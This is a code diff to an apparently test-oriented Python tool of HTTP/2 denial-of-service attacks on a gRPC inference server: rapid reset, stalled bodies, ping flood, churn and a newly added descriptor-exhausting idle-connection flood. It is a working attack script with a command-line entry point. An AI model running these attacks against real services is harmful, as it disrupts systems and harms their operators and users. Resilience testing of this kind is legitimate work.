@@ -7,6 +7,8 @@ Sources: RFC 9113 (frames), CVE-2023-44487 (rapid reset), CERT VU#421644 (contin
 
 from __future__ import annotations
 
+import resource
+import select
 import socket
 import sys
 import time
@@ -21,6 +23,8 @@ _END_STREAM, _END_HEADERS = 0x1, 0x4
 _TIMEOUT_S: Final = 5.0
 _STREAMS: Final = 63
 """Below the server's limit of streams on one connection: what goes beyond it is cheap to refuse."""
+
+_MOST_IDLE: Final = 10_000
 
 _LIVE: Final = "/inference.GRPCInferenceService/ServerMetadata"
 _PREDICT: Final = "/fitserve.inference.v1.InferenceService/Predict"
@@ -49,9 +53,17 @@ def stalled_bodies(host: str, port: int, until_s: float) -> int:
     return _hold(host, port, until_s, 64, PREFACE + frame(_SETTINGS, 0, 0, b"") + calls) * _STREAMS
 
 
-def idle_connections(host: str, port: int, until_s: float) -> int:
+def silent_connections(host: str, port: int, until_s: float) -> int:
     """Opens connections and says nothing."""
     return _hold(host, port, until_s, 500, b"")
+
+
+def idle_connections(host: str, port: int, until_s: float) -> int:
+    """Opens connections, as many as there are descriptors for, shakes hands and begins no call."""
+    # Half of them: where it runs in the server's process, as tests have it, the server needs the other half.
+    most = min(_MOST_IDLE, resource.getrlimit(resource.RLIMIT_NOFILE)[0] // 2 - 100)
+    # Not all at once: that would be churn.
+    return _hold(host, port, until_s, most, PREFACE + frame(_SETTINGS, 0, 0, b""), pause_s=0.001)
 
 
 def slow_readers(host: str, port: int, until_s: float) -> int:
@@ -102,6 +114,7 @@ def churn(host: str, port: int, until_s: float) -> int:
 ATTACKS: Final[Mapping[str, Attack]] = {
     "rapid reset": rapid_reset,
     "stalled bodies": stalled_bodies,
+    "silent connections": silent_connections,
     "idle connections": idle_connections,
     "slow readers": slow_readers,
     "ping flood": ping_flood,
@@ -130,10 +143,9 @@ def _bursts(opened: socket.socket, until_s: float, burst: Callable[[int], bytes]
     while time.monotonic() < until_s:
         try:
             opened.sendall(burst(first))
-            if not opened.recv(1 << 20, socket.MSG_DONTWAIT):
+            # Asked first: with a time limit, `recv` would wait for so long where the server says nothing.
+            if select.select([opened], [], [], 0)[0] and not opened.recv(1 << 20):
                 break
-        except BlockingIOError:
-            pass
         except OSError:
             break
         first += 2 * burst_count
@@ -141,7 +153,7 @@ def _bursts(opened: socket.socket, until_s: float, burst: Callable[[int], bytes]
     return count
 
 
-def _hold(host: str, port: int, until_s: float, connections: int, said: bytes) -> int:
+def _hold(host: str, port: int, until_s: float, connections: int, said: bytes, *, pause_s: float = 0.0) -> int:
     """Opens connections that say one thing and stay; gives how many there were."""
     count = 0
     with ExitStack() as stack:
@@ -150,6 +162,7 @@ def _hold(host: str, port: int, until_s: float, connections: int, said: bytes) -
                 opened = stack.enter_context(socket.create_connection((host, port), timeout=_TIMEOUT_S))
                 opened.sendall(said)
                 count += 1
+                time.sleep(pause_s)
             else:
                 time.sleep(0.05)
     return count
@@ -158,6 +171,8 @@ def _hold(host: str, port: int, until_s: float, connections: int, said: bytes) -
 def main() -> None:
     """Attacks, and prints how much."""
     host, port, kind, seconds = sys.argv[1:]
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 1 << 16) if hard > 0 else 1 << 16, hard))
     print(ATTACKS[kind](host, int(port), time.monotonic() + float(seconds)))
 
 
